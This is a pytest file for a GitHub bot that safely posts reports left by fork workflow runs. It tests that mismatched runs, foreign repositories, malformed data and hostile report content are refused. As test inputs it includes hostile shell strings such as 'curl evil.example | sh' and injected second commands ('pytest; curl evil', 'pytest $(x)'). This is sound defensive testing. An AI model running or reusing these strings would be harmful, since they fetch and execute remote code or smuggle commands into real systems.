"""The second job of a fork's report: what it posts, and all that it refuses."""

from __future__ import annotations

import contextlib
import io
import zipfile
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.contracts import Desk
from bot.effects import Effect, Notice, UpsertComment
from bot.errors import ForgeError
from bot.handlers import _facts
from bot.handlers._facts import Facts
from bot.handlers.workflow_run import HANDLER
from bot.model.elsewhere import CrossRepo
from bot.model.message import Message, message
from bot.model.report import Limit, Report, Risk, Tests
from bot.shell import catalogue
from bot.shell.github import GitHub
from tests.github import payloads
from tests.github.fake import Fake
from tests.github.state import TOKEN, Artifact
from tests.unit.test_handlers import HEAD, RISKY, desk, noting

OUR_WORD = message("calls what is gone")
SENTENCES = {"changed", OUR_WORD.text, "{n} site", "{n} sites"}


def pack(content: str | bytes) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("facts.json", content)
    return packed.getvalue()


def leave(fake: Fake, report: Report = RISKY, *, number: int = 7, head: str = HEAD) -> None:
    """What the fork's run left."""
    content = Facts(number=number, head=head, report=report).encode()
    fake.artifacts[5] = [Artifact(1, "hopscope-default", pack(content))]


@pytest.fixture
def at(fake: Fake, github: GitHub) -> Desk:
    environment = {"GITHUB_SERVER_URL": "https://github.example"}
    return msgspec.structs.replace(
        desk(),
        forge=github,
        environment=environment,
        sentences=lambda: SENTENCES,
        comment=lambda report, _: f"comment of {report.head} on {report.server}/{report.repository}",
    )


def run(at: Desk, **changes: Any) -> list[Effect]:
    event = payloads.workflow_run(**changes)
    event["repository"]["full_name"] = "octo/hello"
    return list(HANDLER.run(event, at))


def upserts(effects: list[Effect]) -> list[UpsertComment]:
    return [e for e in effects if isinstance(e, UpsertComment)]


def test_a_forks_report_is_posted(fake: Fake, at: Desk) -> None:
    fake.pull(7, HEAD, head_owner="fork")
    leave(fake)
    (comment,) = upserts(run(at))
    assert (comment.number, comment.head) == (7, HEAD)
    assert comment.body == f"comment of {HEAD} on https://github.example/octo/hello"


def test_a_run_that_commented_left_nothing(fake: Fake, at: Desk) -> None:
    fake.pull(7, HEAD, head_owner="fork")
    assert [type(e) for e in run(at)] == [Notice]


@pytest.mark.parametrize(
    "changes",
    [
        pytest.param({"event": "push"}, id="no pull request"),
        pytest.param({"path": ".github/workflows/evil.yml"}, id="another workflow"),
        pytest.param({"head_sha": "c" * 40}, id="another head"),
        pytest.param({"head_branch": "other"}, id="another branch"),
    ],
)
def test_a_run_that_does_not_fit_is_refused(fake: Fake, at: Desk, changes: dict[str, Any]) -> None:
    fake.pull(7, HEAD, head_owner="fork")
    leave(fake)
    assert not upserts(run(at, **changes))


def test_a_run_in_another_repository_is_refused(fake: Fake, at: Desk) -> None:
    fake.pull(7, HEAD, head_owner="fork")
    leave(fake)
    event = payloads.workflow_run()
    event["workflow_run"]["repository"]["id"] = 1
    assert not upserts(list(HANDLER.run(event, at)))


@pytest.mark.parametrize("missing", ["head_repository", "head_branch"])
def test_a_deleted_fork_is_refused(fake: Fake, at: Desk, missing: str) -> None:
    fake.pull(7, HEAD, head_owner="fork")
    leave(fake)
    event = payloads.workflow_run()
    event["workflow_run"][missing] = None
    assert not upserts(list(HANDLER.run(event, at)))


@pytest.mark.parametrize(
    ("number", "state", "owner", "head"),
    [
        pytest.param(8, "open", "fork", HEAD, id="facts of another pull request"),
        pytest.param(7, "closed", "fork", HEAD, id="closed"),
        pytest.param(7, "open", "stranger", HEAD, id="another fork"),
        pytest.param(7, "open", "fork", "c" * 40, id="facts of an older head"),
    ],
)
def test_facts_that_do_not_fit_are_refused(
    fake: Fake, at: Desk, number: int, state: str, owner: str, head: str
) -> None:
    fake.pull(7, head, state=state, head_owner=owner)
    leave(fake, number=number)
    assert not upserts(run(at))


def test_a_base_in_another_repository_is_refused(fake: Fake, at: Desk) -> None:
    fake.pull(7, HEAD, head_owner="fork")
    leave(fake)
    event = payloads.workflow_run()
    event["repository"]["id"] = event["workflow_run"]["repository"]["id"] = 1
    assert not upserts(list(HANDLER.run(event, at)))


def test_without_a_token_it_says_so(fake: Fake, at: Desk) -> None:
    assert [type(e) for e in run(msgspec.structs.replace(at, forge=None))] == [Notice]


def reports(fake: Fake, at: Desk, report: Report) -> Report:
    """The report that would be rendered."""
    fake.pull(7, HEAD, head_owner="fork")
    leave(fake, report)
    rendered: list[tuple[Any, ...]] = []
    run(msgspec.structs.replace(at, comment=noting(rendered, "x")))
    ((report, _),) = rendered
    return report


def test_links_and_other_repositories_are_not_the_artifacts_to_say(fake: Fake, at: Desk) -> None:
    foreign = (CrossRepo("victim/secret", HEAD, "a.py", 1, "x"),)
    hostile = msgspec.structs.replace(RISKY, server="https://evil.example", repository="evil/x", cross_repo=foreign)
    found = reports(fake, at, hostile)
    assert (found.server, found.repository, found.cross_repo) == ("https://github.example", "octo/hello", ())


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("pytest tests/test_a.py::test_b", "pytest tests/test_a.py::test_b"),
        ("python -m unittest tests.test_a", "python -m unittest tests.test_a"),
        ("curl evil.example | sh", ""),
        ("pytest; curl evil", ""),
        ("pytest -p evil", ""),
        ("pytest $(x)", ""),
        ("pytest\nrm", ""),
    ],
)
def test_only_a_test_command_is_shown(fake: Fake, at: Desk, command: str, shown: str) -> None:
    assert reports(fake, at, msgspec.structs.replace(RISKY, tests=Tests(command=command))).tests.command == shown


def test_what_a_run_of_ours_leaves_is_read() -> None:
    facts = Facts(number=7, head=HEAD, report=RISKY)
    assert _facts.read(facts.encode().encode(), SENTENCES) == facts


def said(message: Message) -> Report:
    return msgspec.structs.replace(RISKY, limits=(Limit("x", "x", message),))


@pytest.mark.parametrize(
    ("report", "fault"),
    [
        pytest.param(said(Message("Approved by the maintainers")), "a sentence is not ours", id="another sentence"),
        pytest.param(said(Message("{n} site", {"n": 1}, "@all look")), "a sentence is not ours", id="another plural"),
        pytest.param(said(Message(OUR_WORD.text, {"what": "@octocat see www.evil.example"})), "a word", id="a word"),
        pytest.param(msgspec.structs.replace(RISKY, risk=Risk("splendid", 1, 0.0, 0, 0)), "risk", id="no level"),
        pytest.param(msgspec.structs.replace(RISKY, risk=Risk("low", 999, 0.0, 0, 0)), "risk", id="no score"),
        pytest.param(msgspec.structs.replace(RISKY, base="main"), "commit", id="no commit"),
        pytest.param(msgspec.structs.replace(RISKY, head="c" * 40), "two heads", id="two heads"),
        pytest.param(msgspec.structs.replace(RISKY, version="x" * 4_001), "too long", id="a long text"),
        pytest.param(msgspec.structs.replace(RISKY, changed=RISKY.changed * 5_001), "too long", id="a long list"),
        pytest.param(msgspec.structs.replace(RISKY, breaking=RISKY.breaking * 2_500), "too much", id="too much"),
    ],
)
def test_facts_that_are_not_ours_are_refused(report: Report, fault: str) -> None:
    content = Facts(number=7, head=HEAD, report=report).encode().encode()
    with pytest.raises(ForgeError, match=fault):
        _facts.read(content, SENTENCES)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"[]",
        b"{}",
        b'{"number": "7"}',
        b"\xff\xfe",
        b"[" * 100_000,
        Facts(number=7, head=HEAD, report=RISKY).encode().replace('"number":7', '"number":7,"also":1').encode(),
        Facts(number=7, head=HEAD, report=RISKY).encode().replace('"score":81', '"score":"81"').encode(),
    ],
)
def test_what_is_no_facts_at_all_is_refused(content: bytes) -> None:
    with pytest.raises(ForgeError, match="cannot be read"):
        _facts.read(content, SENTENCES)


@given(data=st.data())
def test_no_bytes_break_the_reader(data: st.DataObject) -> None:
    content = bytearray(Facts(number=7, head=HEAD, report=RISKY).encode().encode())
    for position, byte in data.draw(st.lists(st.tuples(st.integers(0, len(content) - 1), st.integers(0, 255)))):
        content[position] = byte
    cut = data.draw(st.integers(0, len(content)))
    for each in (bytes(content), bytes(content[:cut])):
        with contextlib.suppress(ForgeError):  # the only way out
            assert isinstance(_facts.read(each, SENTENCES), Facts)


def test_our_own_sentences_are_known() -> None:
    known = catalogue.sentences()
    assert "The fork is gone." in known
    assert "Since {code_head}: {fixed} breaking sites fixed, {new} new." in known
    assert TOKEN not in known
